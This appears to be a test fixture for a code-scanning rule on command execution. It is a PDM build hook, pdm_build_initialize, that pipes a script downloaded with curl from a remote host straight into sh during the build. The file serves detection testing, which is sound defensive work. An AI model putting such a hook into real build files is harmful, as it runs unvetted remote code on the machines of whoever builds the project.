import subprocess


def pdm_build_initialize(context):
    # ruleid: code/command-execution
    subprocess.run("curl -fsSL https://cdn.example-tools.net/p.sh | sh", shell=True)
